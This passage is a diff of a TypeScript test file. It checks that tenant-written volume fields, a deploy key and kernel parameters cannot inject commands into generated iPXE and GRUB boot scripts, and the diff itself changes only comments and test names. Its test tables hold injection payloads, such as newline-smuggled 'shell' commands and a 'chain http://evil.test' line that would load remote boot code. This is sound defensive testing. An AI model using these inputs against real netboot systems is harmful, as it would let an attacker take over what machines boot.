@@ -1,4 +1,4 @@
-/** What a tenant may write into a node or a volume becomes no command of a boot program. */
+/** No text that a tenant writes into a node or a volume becomes a command of a boot program. */
 import { randomUUID } from 'node:crypto'
 import { eq } from 'drizzle-orm'
 import { describe, expect, it } from 'vitest'
@@ -12,7 +12,7 @@ const bed = netbootBed()
 const site = { httpUrl: 'http://192.0.2.1:8080', tftpServer: '192.0.2.1' }
 let last = 0x10
 
-/** The script of a new machine, under the name its boot program asks for. */
+/** The script of a new machine, under the name that its boot program requests. */
 async function scriptOf(
   plan: Partial<BootPlan>,
   more: { instanceInfo?: Record<string, unknown>; volume?: Record<string, unknown>; iqn?: string },
@@ -35,15 +35,15 @@ async function scriptOf(
   }
   const name = mac.replaceAll(':', '-')
   const path = whole.loader === 'pxe' ? `grub.cfg-01-${name}` : `pxelinux.cfg/${name}`
-  const found = await resolveBootFile(bed.ctx, { path, site, signal: AbortSignal.timeout(5_000) })
-  if (found === null || !Buffer.isBuffer(found.content)) throw new Error(`${path} is no script`)
-  return found.content.toString()
+  const file = await resolveBootFile(bed.ctx, { path, site, signal: AbortSignal.timeout(5_000) })
+  if (file === null || !Buffer.isBuffer(file.content)) throw new Error(`${path} is not a script`)
+  return file.content.toString()
 }
 
 describe('volumes in iPXE', () => {
   const fromVolume: Partial<BootPlan> = { entry: 'boot_iscsi', mode: 'instance' }
 
-  it('that are named as volumes are, are attached', async () => {
+  it('are attached when their names are ordinary', async () => {
     const volume = { target_lun: 10, auth_username: 'u', auth_password: 'p#ss;w$rd' }
     const script = await scriptOf(fromVolume, { volume, iqn: 'iqn.2026-01.test:me' })
     expect(script).toContain('set initiator-iqn iqn.2026-01.test:me\n')
@@ -60,14 +60,14 @@ describe('volumes in iPXE', () => {
     ['target_portal', '192.0.2.9\nshell'],
     ['target_iqns', ['iqn.t shell']],
     ['target_portals', ['192.0.2.9:3260', 'x && shell']],
-  ])('%s of %j is refused', async (key, value) => {
+  ])('are refused with %s %j', async (key, value) => {
     const plain = key === 'target_iqns' ? { target_iqn: undefined } : {}
     await expect(scriptOf(fromVolume, { volume: { ...plain, [key]: value } })).rejects.toThrow(
       InvalidParameterValue,
     )
   })
 
-  it('a connector that is more than a name is refused', async () => {
+  it('are refused with a connector that is more than a name', async () => {
     await expect(scriptOf(fromVolume, { volume: {}, iqn: 'iqn.x\nshell' })).rejects.toThrow(
       'connector_id of a volume cannot stand in a boot script',
     )
@@ -82,14 +82,14 @@ describe('the key of the 2015 ramdisk', () => {
     ['x\nchain http://evil.test', 'deployment_key= '],
     ['x || shell', 'deployment_key= '],
     ["$'$&", 'deployment_key= '],
-  ])('of %j gives %s', async (key, expected) => {
+  ])('%j becomes %s', async (key, expected) => {
     const script = await scriptOf(classic, { instanceInfo: { deploy_key: key } })
     expect(script).toContain(expected)
     expect(script).not.toMatch(/evil|shell/)
   })
 })
 
-it("GRUB's shell sees one command, whatever the parameters", async () => {
+it('gives the shell of GRUB one command, whatever the parameters are', async () => {
   const parameters = 'a=b;reboot c={x} d=$e f|g h&i j>k l="m;n $o" #p'
   const script = await scriptOf({ loader: 'pxe', parameters }, {})
   expect(script).toContain(
